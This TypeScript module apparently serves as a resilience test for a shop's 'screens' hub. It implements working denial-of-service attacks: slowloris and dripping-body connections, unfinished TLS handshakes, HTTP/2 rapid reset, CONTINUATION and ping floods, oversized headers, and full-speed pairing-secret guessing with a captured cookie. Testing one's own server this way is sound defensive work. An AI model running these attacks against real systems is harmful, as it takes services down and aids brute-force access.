import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { connect as connectSecure, type TLSSocket } from 'node:tls';
import { END_HEADERS, END_STREAM, frame, headers, KIND, PREFACE } from './frames.ts';

/** Whom a hostile machine in the shop's network attacks, from which addresses, and for how long. */
export interface Aimed {
  readonly screens: string;
  readonly trust: string;
  readonly ca: string;
  readonly from: readonly string[];
  /** Of a device that was paired once, and fell into its hands. */
  readonly cookie: string;
  readonly seconds: number;
}

/** What came of it. */
export interface Came {
  /** How often it did what it does. */
  readonly times: number;
  /** How many of its connections were open at the most, and at the end. */
  readonly most: number;
  readonly left: number;
}

class Attack {
  readonly aimed: Aimed;
  readonly #until: number;
  readonly #open = new Set<Socket>();
  #connections = 0;
  times = 0;
  most = 0;

  constructor(aimed: Aimed) {
    this.aimed = aimed;
    this.#until = performance.now() + aimed.seconds * 1000;
  }

  get over(): boolean {
    return performance.now() > this.#until;
  }

  get left(): number {
    return this.#open.size;
  }

  get host(): string {
    return new URL(this.aimed.screens).host;
  }

  #note<T extends Socket>(socket: T): T {
    this.#open.add(socket);
    socket.on('error', () => undefined);
    socket.once('close', () => this.#open.delete(socket));
    return socket;
  }

  /** A connection to the screens or to the page about the certificate, without encryption. */
  tcp(to: 'screens' | 'trust'): Promise<Socket | null> {
    const { hostname, port } = new URL(this.aimed[to]);
    const { from } = this.aimed;
    const localAddress = from[(this.#connections += 1) % from.length] ?? '';
    const socket = this.#note(connect({ host: hostname, port: Number(port), localAddress }));
    return this.#connected(socket, 'connect');
  }

  async tls(protocol: 'h2' | 'http/1.1'): Promise<TLSSocket | null> {
    const socket = await this.tcp('screens');
    if (socket === null) return null;
    const { hostname } = new URL(this.aimed.screens);
    const secure = this.#note(
      connectSecure({ socket, host: hostname, ca: this.aimed.ca, ALPNProtocols: [protocol] }),
    );
    return this.#connected(secure, 'secureConnect');
  }

  async #connected<T extends Socket>(socket: T, when: string): Promise<T | null> {
    const came = await new Promise<boolean>((told) => {
      socket.once(when, () => told(true));
      socket.once('close', () => told(false));
      setTimeout(() => told(false), 5000).unref();
    });
    this.most = Math.max(this.most, this.#open.size);
    return came ? socket : null;
  }

  /** An open connection by HTTP/2 whose answers are read, or not. */
  async two(read = true): Promise<TLSSocket | null> {
    const socket = await this.tls('h2');
    if (read) socket?.resume();
    else socket?.pause();
    socket?.write(PREFACE);
    return socket;
  }

  end(): void {
    this.#open.forEach((socket) => socket.destroy());
  }
}

/** Writes as fast as the other side takes it. */
async function pour(attack: Attack, socket: Socket, piece: () => Buffer): Promise<void> {
  while (!attack.over && !socket.destroyed) {
    attack.times += 1;
    if (socket.write(piece())) {
      if (attack.times % 50 === 0) await pause(0);
    } else
      await Promise.race([
        new Promise((done) => socket.once('drain', done)),
        new Promise((done) => socket.once('close', done)),
        pause(1000),
      ]);
  }
}

/** So many at once, each begun anew when it is done. */
async function all(attack: Attack, many: number, one: (k: number) => Promise<unknown>): Promise<void> {
  await Promise.all(
    Array.from({ length: many }, async (_, k) => {
      while (!attack.over) {
        await one(k);
        await pause(1);
      }
    }),
  );
}

/** Holds so many connections open, each with what is done on it now and then. */
async function hold(
  attack: Attack,
  many: number,
  open: () => Promise<Socket | null>,
  drip: (socket: Socket) => void = () => undefined,
): Promise<void> {
  const held = new Set<Socket>();
  await Promise.all([
    (async () => {
      while (!attack.over) {
        await Promise.all(
          Array.from({ length: Math.min(50, many - held.size) }, async () => {
            const socket = await open();
            attack.times += 1;
            if (socket === null) return;
            if (!socket.isPaused()) socket.resume();
            held.add(socket);
            socket.once('close', () => held.delete(socket));
            drip(socket);
          }),
        );
        await pause(20);
      }
    })(),
    (async () => {
      while (!attack.over) {
        await pause(1000);
        held.forEach((socket) => drip(socket));
      }
    })(),
  ]);
}

const ACT = {
  'two thousand connections that say nothing': (a) => hold(a, 2000, () => a.tcp('screens')),
  'two thousand handshakes that are never ended': (a) =>
    hold(
      a,
      2000,
      () => a.tcp('screens'),
      (socket) => socket.write(Buffer.from([0x16, 3, 1, 2, 0])),
    ),
  'handshakes at full speed': (a) =>
    all(a, 40, async () => {
      a.times += 1;
      (await a.tls('h2'))?.destroy();
    }),
  'two thousand encrypted connections that ask nothing': (a) => hold(a, 2000, () => a.two()),
  'headers that drip, HTTP/1.1': (a) => {
    const begun = new WeakSet<Socket>();
    return hold(
      a,
      500,
      () => a.tls('http/1.1'),
      (socket) => {
        socket.write(begun.has(socket) ? 'x' : `GET /pairing HTTP/1.1\r\nhost: ${a.host}\r\nx: `);
        begun.add(socket);
      },
    );
  },
  'a body that drips, HTTP/1.1': (a) => {
    const begun = new WeakSet<Socket>();
    return hold(
      a,
      500,
      () => a.tls('http/1.1'),
      (socket) => {
        socket.write(
          begun.has(socket)
            ? ' '
            : `POST /api/pairing HTTP/1.1\r\nhost: ${a.host}\r\ncontent-type: application/json\r\ncontent-length: 9999\r\n\r\n`,
        );
        begun.add(socket);
      },
    );
  },
  'bodies that drip, HTTP/2': (a) =>
    all(a, 20, async () => {
      const socket = await a.two();
      const head = headers('POST', a.host, '/api/pairing', { 'content-type': 'application/json' });
      for (let stream = 1; socket !== null && !socket.destroyed && !a.over; stream += 2) {
        a.times += 1;
        socket.write(frame(KIND.headers, END_HEADERS, stream, head));
        socket.write(frame(KIND.data, 0, stream, Buffer.from(' ')));
        if (stream % 100 === 1) await pause(10);
      }
    }),
  'streams that are reset at once': (a) =>
    all(a, 10, async () => {
      const socket = await a.two();
      const head = headers('GET', a.host, '/pairing');
      let stream = -1;
      if (socket !== null)
        await pour(a, socket, () => {
          stream += 2;
          return Buffer.concat([
            frame(KIND.headers, END_HEADERS | END_STREAM, stream, head),
            frame(KIND.reset, 0, stream, Buffer.from([0, 0, 0, 8])),
          ]);
        });
    }),
  'settings and pings at full speed, answers unread': (a) =>
    all(a, 10, async () => {
      const socket = await a.two(false);
      const both = Buffer.concat([frame(KIND.settings, 0, 0), frame(KIND.ping, 0, 0, Buffer.alloc(8))]);
      const many = Buffer.concat(Array.from({ length: 200 }, () => both));
      if (socket !== null) await pour(a, socket, () => many);
    }),
  'headers without an end': (a) =>
    all(a, 10, async () => {
      const socket = await a.two();
      const head = headers('GET', a.host, '/pairing');
      socket?.write(frame(KIND.headers, 0, 1, head));
      const more = Buffer.concat(
        Array.from({ length: 10 }, () =>
          frame(KIND.continuation, 0, 1, headers('GET', a.host, '/'.padEnd(9000, 'x'))),
        ),
      );
      if (socket !== null) await pour(a, socket, () => more);
    }),
  'headers of a hundred kilobytes': (a) =>
    all(a, 20, async () => {
      const socket = await a.tls('http/1.1');
      socket?.resume();
      if (socket !== null)
        await pour(a, socket, () =>
          Buffer.from(`GET /pairing HTTP/1.1\r\nhost: ${a.host}\r\nx: ${'x'.repeat(100_000)}\r\n\r\n`),
        );
    }),
  'answers that are never read': (a) =>
    all(a, 50, async () => {
      const socket = await a.two(false);
      if (socket === null) return;
      // Takes all of the answer, as far as the hub goes by that.
      socket.write(frame(KIND.window, 0, 0, Buffer.from([0x7f, 0, 0, 0])));
      const head = headers('GET', a.host, '/pairing');
      for (let stream = 1; !socket.destroyed && !a.over; stream += 2) {
        a.times += 1;
        socket.write(frame(KIND.headers, END_HEADERS | END_STREAM, stream, head));
        if (stream % 50 === 1) await pause(5);
      }
    }),
  'requests at full speed, HTTP/2': (a) =>
    all(a, 20, async () => {
      const socket = await a.two();
      const head = headers('GET', a.host, '/api/jobs');
      let stream = -1;
      if (socket !== null)
        await pour(a, socket, () => {
          stream += 2;
          return frame(KIND.headers, END_HEADERS | END_STREAM, stream, head);
        });
    }),
  'streams of a paired device that are never read': (a) =>
    hold(a, 30, async () => {
      const socket = await a.two(false);
      const head = headers('GET', a.host, '/api/events', { cookie: a.aimed.cookie, 'last-event-id': '0' });
      for (let stream = 1; stream < 200; stream += 2)
        socket?.write(frame(KIND.headers, END_HEADERS | END_STREAM, stream, head));
      return socket;
    }),
  'pairing guesses at full speed': (a) =>
    all(a, 50, async () => {
      const socket = await a.tls('http/1.1');
      const body = JSON.stringify({ secret: 'ABCDEFGH', ask: 'x', proof: 'x', name: 'x', station: 'bench' });
      const guess = Buffer.from(
        `POST /api/pairing HTTP/1.1\r\nhost: ${a.host}\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`,
      );
      socket?.resume();
      if (socket !== null) await pour(a, socket, () => guess);
    }),
  'the page about the certificate: two thousand connections that drip': (a) =>
    hold(
      a,
      2000,
      () => a.tcp('trust'),
      (socket) => socket.write('G'),
    ),
  'the page about the certificate at full speed': (a) =>
    all(a, 50, async () => {
      const socket = await a.tcp('trust');
      a.times += 1;
      socket?.resume();
      socket?.write('GET / HTTP/1.1\r\nhost: x\r\n\r\n');
      if (socket !== null)
        await Promise.race([new Promise((over) => socket.once('close', over)), pause(2000)]);
    }),
} satisfies Readonly<Record<string, (attack: Attack) => Promise<void>>>;

export type AttackName = keyof typeof ACT;
export const ATTACKS = Object.keys(ACT) as AttackName[];

/** Carries out one attack. */
export async function attack(name: AttackName, aimed: Aimed): Promise<Came> {
  const one = new Attack(aimed);
  await ACT[name](one);
  const { times, most, left } = one;
  one.end();
  return { times, most, left };
}
